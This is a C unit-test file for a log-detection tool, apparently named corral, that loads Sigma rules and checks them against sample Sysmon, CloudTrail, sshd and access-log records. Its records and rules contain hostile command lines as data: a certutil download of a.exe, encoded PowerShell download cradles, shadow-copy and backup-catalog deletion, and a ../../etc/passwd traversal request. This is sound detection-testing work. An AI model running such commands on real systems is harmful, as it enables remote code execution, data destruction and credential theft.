@@ -1,0 +1,318 @@
+/*
+ * test_sigma.c - Sigma rules loaded as published (rules/sigma.c), matched
+ * by the one matcher on records parsed by corral's own parsers.
+ *
+ * The rules are written here from the Sigma specification (modifiers,
+ * keywords, null, conditions) in the form SigmaHQ publishes; the records
+ * are the shapes real sources ship (NXLog-flat and Winlogbeat Windows JSON,
+ * CloudTrail, sshd syslog, an access log line). The logsource mapping is the
+ * default one, configs/sigma/logsources.yaml, so a change to it that breaks
+ * a shape shows here. Rules corral cannot run are skipped with a reason and
+ * counted; they never fail the load.
+ */
+#include <criterion/criterion.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "parsers/parser.h"
+#include "rules/matcher.h"
+#include "testutil.h"
+
+static char *dir;
+static char err[16384];
+static struct cr_ruleset *rs;
+static struct cr_matcher *m;
+static struct cr_parser *parser;
+
+static void put(const char *name, const char *text)
+{
+    char path[1200];
+    snprintf(path, sizeof path, "%s/%s", dir, name);
+    cr_assert_eq(cr_test_write_file(path, text, strlen(text)), 0);
+}
+
+/* Load the default mapping and the Sigma rules in dir. */
+static struct cr_ruleset *load(void)
+{
+    const char *paths[] = {cr_test_source_path("configs/sigma"), dir};
+    err[0] = 0;
+    return cr_ruleset_load(paths, 2, NULL, err, sizeof err);
+}
+
+static void start(void)
+{
+    rs = load();
+    cr_assert_not_null(rs, "%s", err);
+    m = cr_matcher_new(rs);
+    cr_assert_not_null(m);
+    struct cr_parse_opts o = {.format = CR_FMT_AUTO, .year = 2026};
+    o.extra_names = rs->field_names;
+    o.n_extra_names = (unsigned)rs->nfields;
+    parser = cr_parser_new(&o);
+    cr_assert_not_null(parser);
+}
+
+static void setup(void)
+{
+    dir = cr_test_tmpdir();
+    cr_assert_not_null(dir);
+}
+
+static void teardown(void)
+{
+    cr_parser_free(parser);
+    cr_matcher_free(m);
+    cr_ruleset_free(rs);
+    parser = NULL;
+    m = NULL;
+    rs = NULL;
+    cr_test_rmtree(dir);
+    free(dir);
+}
+
+TestSuite(sigma);
+
+/* Titles of the rules a record matches, space-separated. */
+static const char *matches(const char *rec)
+{
+    static char buf[2048];
+    struct cr_event ev;
+    cr_parse(parser, rec, strlen(rec), 0, &ev);
+    uint32_t out[64];
+    int n = cr_matcher_match(m, &ev, out, 64);
+    cr_assert_geq(n, 0);
+    buf[0] = 0;
+    for (int i = 0; i < n; i++) {
+        strcat(buf, i ? " " : "");
+        strcat(buf, rs->rules[out[i]].title);
+    }
+    return buf;
+}
+
+#define RULE(id, title, logsource, detection)                                                      \
+    "title: " title "\nid: " id "\nstatus: test\nauthor: corral tests\nlevel: high\n"             \
+    "tags:\n  - attack.execution\n  - attack.t1059.001\n"                                          \
+    "logsource:\n" logsource "detection:\n" detection
+
+#define WIN_PROC "  product: windows\n  category: process_creation\n"
+
+/* Sysmon process creation in NXLog's flat shape and in Winlogbeat's. */
+#define SYSMON_FLAT(image, cmd)                                                                    \
+    "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Hostname\":\"WS5\","  \
+    "\"Image\":\"" image "\",\"CommandLine\":\"" cmd "\",\"ParentImage\":\"C:\\\\Windows\\\\"     \
+    "explorer.exe\",\"User\":\"LAB\\\\wardog\",\"TimeCreated\":\"2026-10-18T10:56:18Z\"}"
+#define SYSMON_BEAT(image, cmd)                                                                    \
+    "{\"@timestamp\":\"2026-10-18T10:56:18Z\",\"host\":{\"name\":\"WS6\"},\"winlog\":{"          \
+    "\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":1,\"event_data\":{"       \
+    "\"Image\":\"" image "\",\"CommandLine\":\"" cmd "\"}}}"
+
+Test(sigma, string_modifiers_and_wildcards_match_case_insensitively, .init = setup,
+     .fini = teardown)
+{
+    put("a.yml", RULE("00000000-0000-0000-0000-00000000000a", "encoded powershell", WIN_PROC,
+                      "  selection_img:\n    Image|endswith: '\\powershell.exe'\n"
+                      "  selection_cli:\n    CommandLine|contains|all:\n      - ' -enc'\n"
+                      "      - 'bypass'\n"
+                      "  condition: all of selection_*\n"));
+    put("b.yml", RULE("00000000-0000-0000-0000-00000000000b", "temp binary", WIN_PROC,
+                      "  selection:\n    Image|startswith: 'C:\\Users\\'\n"
+                      "    Image: '*\\AppData\\Local\\Temp\\\\*.exe'\n  condition: selection\n"));
+    /* Sigma's escapes: '\\*' is a backslash and then the wildcard; '\*' alone
+     * would be a literal star */
+    start();
+    cr_assert_str_eq(
+        matches(SYSMON_FLAT("C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\POWERSHELL.EXE",
+                            "powershell.exe -ExecutionPolicy Bypass -enc SQBFAFgA")),
+        "encoded powershell");
+    cr_assert_str_eq(
+        matches(SYSMON_FLAT("C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
+                            "powershell.exe -enc SQBFAFgA")),
+        "", "contains|all: every value must be there");
+    cr_assert_str_eq(matches(SYSMON_BEAT("C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\x.exe",
+                                         "x.exe")),
+                     "temp binary", "the Winlogbeat shape of the same event");
+    cr_assert_str_eq(
+        matches(SYSMON_FLAT("C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\x.dll", "x")), "",
+        "the wildcard pattern is anchored at both ends");
+    /* the logsource's select: the same fields on a non-process event do not match */
+    cr_assert_str_eq(matches("{\"EventID\":11,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
+                             "\"Image\":\"C:\\\\Users\\\\b\\\\AppData\\\\Local\\\\Temp\\\\x.exe\"}"),
+                     "");
+    cr_assert_eq(rs->sigma.loaded, 2);
+    cr_assert_eq(rs->sigma.skipped, 0, "%s", rs->sigma.skips ? rs->sigma.skips : "");
+}
+
+Test(sigma, conditions_not_parentheses_one_of_them, .init = setup, .fini = teardown)
+{
+    put("c.yml", RULE("00000000-0000-0000-0000-00000000000c", "rundll32 unusual", WIN_PROC,
+                      "  sel_img:\n    Image|endswith: '\\rundll32.exe'\n"
+                      "  sel_a:\n    CommandLine|contains: 'javascript:'\n"
+                      "  sel_b:\n    CommandLine|contains: 'shell32.dll,ShellExec_RunDLL'\n"
+                      "  filter_main:\n    ParentImage|endswith: '\\msiexec.exe'\n"
+                      "  condition: sel_img and (sel_a or sel_b) and not 1 of filter_*\n"));
+    put("d.yml", RULE("00000000-0000-0000-0000-00000000000d", "any of them", WIN_PROC,
+                      "  x1:\n    CommandLine|contains: 'vssadmin delete shadows'\n"
+                      "  x2:\n    CommandLine|contains: 'wbadmin delete catalog'\n"
+                      "  condition: 1 of them\n"));
+    start();
+    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\Windows\\\\System32\\\\rundll32.exe",
+                                         "rundll32.exe javascript:\\\"\\\\..\\\\mshtml\\\"")),
+                     "rundll32 unusual");
+    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\Windows\\\\System32\\\\rundll32.exe",
+                                         "rundll32.exe advpack.dll,LaunchINFSection")),
+                     "");
+    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\Windows\\\\System32\\\\cmd.exe",
+                                         "cmd /c WBADMIN DELETE CATALOG -quiet")),
+                     "any of them");
+}
+
+Test(sigma, re_cidr_exists_null_numbers_fieldref_base64offset_windash, .init = setup,
+     .fini = teardown)
+{
+    put("e.yml", RULE("00000000-0000-0000-0000-00000000000e", "re and windash", WIN_PROC,
+                      "  sel:\n    CommandLine|re: '(?i)certutil(\\.exe)? .*[-/]urlcache'\n"
+                      "  sel2:\n    CommandLine|windash|contains: ' -f '\n"
+                      "  condition: sel and sel2\n"));
+    put("f.yml", "title: cloud from outside\nid: 00000000-0000-0000-0000-00000000000f\n"
+                 "status: test\nlevel: medium\nlogsource:\n  product: aws\n  service: cloudtrail\n"
+                 "detection:\n  sel:\n    eventName: ConsoleLogin\n"
+                 "    additionalEventData.MFAUsed: 'No'\n"
+                 "    errorMessage: null\n"
+                 "  filter_internal:\n    sourceIPAddress|cidr:\n      - '10.0.0.0/8'\n"
+                 "      - '192.168.0.0/16'\n"
+                 "  condition: sel and not filter_internal\n");
+    put("g.yml", "title: encoded iex\nid: 00000000-0000-0000-0000-000000000010\nstatus: test\n"
+                 "level: critical\nlogsource:\n  product: windows\n  category: process_creation\n"
+                 "detection:\n  sel:\n    CommandLine|base64offset|contains: 'IEX (New-Object'\n"
+                 "  condition: sel\n");
+    put("h.yml", "title: user is parent\nid: 00000000-0000-0000-0000-000000000011\nstatus: test\n"
+                 "level: low\nlogsource:\n  product: windows\n  category: process_creation\n"
+                 "detection:\n  sel:\n    Image|fieldref: ParentImage\n"
+                 "  has_user:\n    User|exists: true\n  condition: sel and has_user\n");
+    start();
+    cr_assert_str_eq(
+        matches(SYSMON_FLAT("C:\\\\Windows\\\\System32\\\\certutil.exe",
+                            "CertUtil.exe /urlcache /f http://198.51.100.7/a.exe a.exe")),
+        "re and windash", "/f is the same flag as -f");
+    const char *ct_out =
+        "{\"eventVersion\":\"1.08\",\"eventTime\":\"2026-03-02T08:00:00Z\",\"eventSource\":"
+        "\"signin.amazonaws.com\",\"eventName\":\"ConsoleLogin\",\"sourceIPAddress\":"
+        "\"203.0.113.9\",\"userIdentity\":{\"type\":\"IAMUser\",\"userName\":\"ops\"},"
+        "\"additionalEventData\":{\"MFAUsed\":\"No\"},\"responseElements\":{\"ConsoleLogin\":"
+        "\"Success\"}}";
+    cr_assert_str_eq(matches(ct_out), "cloud from outside");
+    char ct_in[1024];
+    snprintf(ct_in, sizeof ct_in, "%s", ct_out);
+    memcpy(strstr(ct_in, "203.0.113.9"), "192.168.7.9", 11);
+    cr_assert_str_eq(matches(ct_in), "", "inside 192.168.0.0/16: filtered");
+    const char *ct_err =
+        "{\"eventTime\":\"2026-03-02T08:00:00Z\",\"eventSource\":\"signin.amazonaws.com\","
+        "\"eventName\":\"ConsoleLogin\",\"sourceIPAddress\":\"203.0.113.9\",\"userIdentity\":"
+        "{\"type\":\"IAMUser\"},\"additionalEventData\":{\"MFAUsed\":\"No\"},"
+        "\"errorMessage\":\"Failed authentication\"}";
+    cr_assert_str_eq(matches(ct_err), "", "errorMessage: null means absent or empty");
+    /* "IEX (New-Object" inside a longer base64 text, at each of the three offsets */
+    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\p.exe",
+                                         "powershell -e SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQp")),
+                     "encoded iex");
+    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\p.exe",
+                                         "powershell -e ICBJRVggKE5ldy1PYmplY3QgTmV0LldlYkNsaWVudCk=")),
+                     "encoded iex");
+    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\p.exe", "powershell -e aWV4IChuZXctb2JqZWN0")), "",
+                     "base64 is case-sensitive: 'iex (new-object' is another text");
+    cr_assert_str_eq(matches("{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
+                             "\"Image\":\"C:\\\\A.exe\",\"ParentImage\":\"c:\\\\a.exe\","
+                             "\"User\":\"x\"}"),
+                     "user is parent");
+    cr_assert_str_eq(matches("{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
+                             "\"Image\":\"C:\\\\A.exe\",\"ParentImage\":\"c:\\\\a.exe\"}"),
+                     "", "User|exists: true");
+}
+
+Test(sigma, keywords_on_syslog_and_webserver_fields, .init = setup, .fini = teardown)
+{
+    put("k.yml", "title: sshd crypto error\nid: 00000000-0000-0000-0000-000000000020\n"
+                 "status: test\nlevel: high\nlogsource:\n  product: linux\n  service: sshd\n"
+                 "detection:\n  keywords:\n    - 'error in libcrypto'\n"
+                 "    - 'unexpected internal error'\n  condition: keywords\n");
+    put("w.yml", "title: path traversal\nid: 00000000-0000-0000-0000-000000000021\n"
+                 "status: test\nlevel: medium\nlogsource:\n  category: webserver\n"
+                 "detection:\n  sel:\n    cs-uri-query|contains: '../../'\n"
+                 "    sc-status: 200\n    cs-method: GET\n  condition: sel\n");
+    start();
+    cr_assert_str_eq(matches("<38>Mar  2 08:00:01 web-01 sshd[4242]: error in libcrypto: "
+                             "bad signature"),
+                     "sshd crypto error");
+    cr_assert_str_eq(matches("<38>Mar  2 08:00:01 web-01 cron[42]: error in libcrypto"), "",
+                     "the keyword is for sshd's records only");
+    cr_assert_str_eq(matches("203.0.113.5 - - [02/Mar/2026:08:00:00 +0000] \"GET "
+                             "/download?file=../../etc/passwd HTTP/1.1\" 200 512 \"-\" \"curl/8\""),
+                     "path traversal");
+    cr_assert_str_eq(matches("203.0.113.5 - - [02/Mar/2026:08:00:00 +0000] \"GET "
+                             "/download?file=../../etc/passwd HTTP/1.1\" 404 512 \"-\" \"curl/8\""),
+                     "");
+}
+
+/* What corral cannot run is skipped with file:line: reason and counted;
+ * the rest of the directory loads. */
+Test(sigma, rules_that_cannot_run_are_skipped_and_counted, .init = setup, .fini = teardown)
+{
+    put("ok.yml", RULE("00000000-0000-0000-0000-000000000030", "fine", WIN_PROC,
+                       "  sel:\n    Image|endswith: '\\x.exe'\n  condition: sel\n"));
+    put("mod.yml", RULE("00000000-0000-0000-0000-000000000031", "modifier", WIN_PROC,
+                        "  sel:\n    Image|sounds_like: 'x'\n  condition: sel\n"));
+    put("ls.yml", "title: t\nid: 00000000-0000-0000-0000-000000000032\nlogsource:\n"
+                  "  product: amiga\ndetection:\n  sel: {a: b}\n  condition: sel\n");
+    put("agg.yml", RULE("00000000-0000-0000-0000-000000000033", "aggregation", WIN_PROC,
+                        "  sel:\n    Image|endswith: '\\x.exe'\n  condition: sel | count() > 5\n"));
+    put("dep.yml", "title: old\nid: 00000000-0000-0000-0000-000000000034\nstatus: deprecated\n"
+                   "logsource:\n  product: windows\n  category: process_creation\n"
+                   "detection:\n  sel: {Image: x}\n  condition: sel\n");
+    put("zdup.yml", RULE("00000000-0000-0000-0000-000000000030", "again", WIN_PROC,
+                        "  sel:\n    Image|endswith: '\\y.exe'\n  condition: sel\n"));
+    put("cond.yml", RULE("00000000-0000-0000-0000-000000000035", "unknown id", WIN_PROC,
+                         "  sel:\n    Image|endswith: '\\x.exe'\n  condition: sel and nothere\n"));
+    start();
+    const struct cr_sigma_stats *st = &rs->sigma;
+    cr_assert_eq(st->loaded, 1);
+    cr_assert_eq(st->skipped, 6, "%s", st->skips);
+    cr_assert_eq(st->by_reason[CR_SIGMA_SKIP_MODIFIER], 1);
+    cr_assert_eq(st->by_reason[CR_SIGMA_SKIP_LOGSOURCE], 1);
+    cr_assert_eq(st->by_reason[CR_SIGMA_SKIP_CONDITION], 2);
+    cr_assert_eq(st->by_reason[CR_SIGMA_SKIP_STATUS], 1);
+    cr_assert_eq(st->by_reason[CR_SIGMA_SKIP_DUPLICATE], 1);
+    char want[1400];
+    snprintf(want, sizeof want, "%s/mod.yml:14: skipped: rule 00000000-0000-0000-0000-000000000031: "
+                                "field 'Image': unknown modifier 'sounds_like'",
+             dir);
+    cr_assert(strstr(st->skips, want), "%s", st->skips);
+    snprintf(want, sizeof want, "%s/ls.yml:4: skipped: rule 00000000-0000-0000-0000-000000000032: "
+                                "no sigma_logsources entry for logsource product=amiga",
+             dir);
+    cr_assert(strstr(st->skips, want), "%s", st->skips);
+    cr_assert(strstr(st->skips, "deprecated Sigma; write a correlation rule"), "%s", st->skips);
+    cr_assert(strstr(st->skips, "unknown search identifier 'nothere'"), "%s", st->skips);
+    /* the rule that loaded carries its attribution and grading */
+    const struct cr_rule *r = &rs->rules[cr_ruleset_find_rule(rs, "00000000-0000-0000-0000-000000000030")];
+    cr_assert_str_eq(r->title, "fine");
+    cr_assert_str_eq(r->sigma->author, "corral tests");
+    cr_assert_str_eq(r->sigma->level, "high");
+    cr_assert_str_eq(r->sigma->attack, "T1059.001");
+    cr_assert_str_eq(r->incident->priority, "P2", "level high is P2");
+    cr_assert_str_eq(r->incident->category, "S-ATK-EXPL", "attack.execution");
+}
+
+/* The mapping is corral's own file: strict, like the rest of the config. */
+Test(sigma, a_wrong_mapping_is_an_error_naming_file_and_line, .init = setup, .fini = teardown)
+{
+    put("map.yaml", "sigma_logsources:\n  - logsource: { product: x }\n    category: S-NOPE\n"
+                    "  - { logsource: { product: y }, colour: red }\n");
+    const char *paths[] = {dir};
+    err[0] = 0;
+    cr_assert_null(cr_ruleset_load(paths, 1, NULL, err, sizeof err));
+    char want[1300];
+    snprintf(want, sizeof want, "%s/map.yaml:3: unknown category 'S-NOPE'", dir);
+    cr_assert(strstr(err, want), "%s", err);
+    cr_assert(strstr(err, "unknown key 'colour'"), "%s", err);
+}
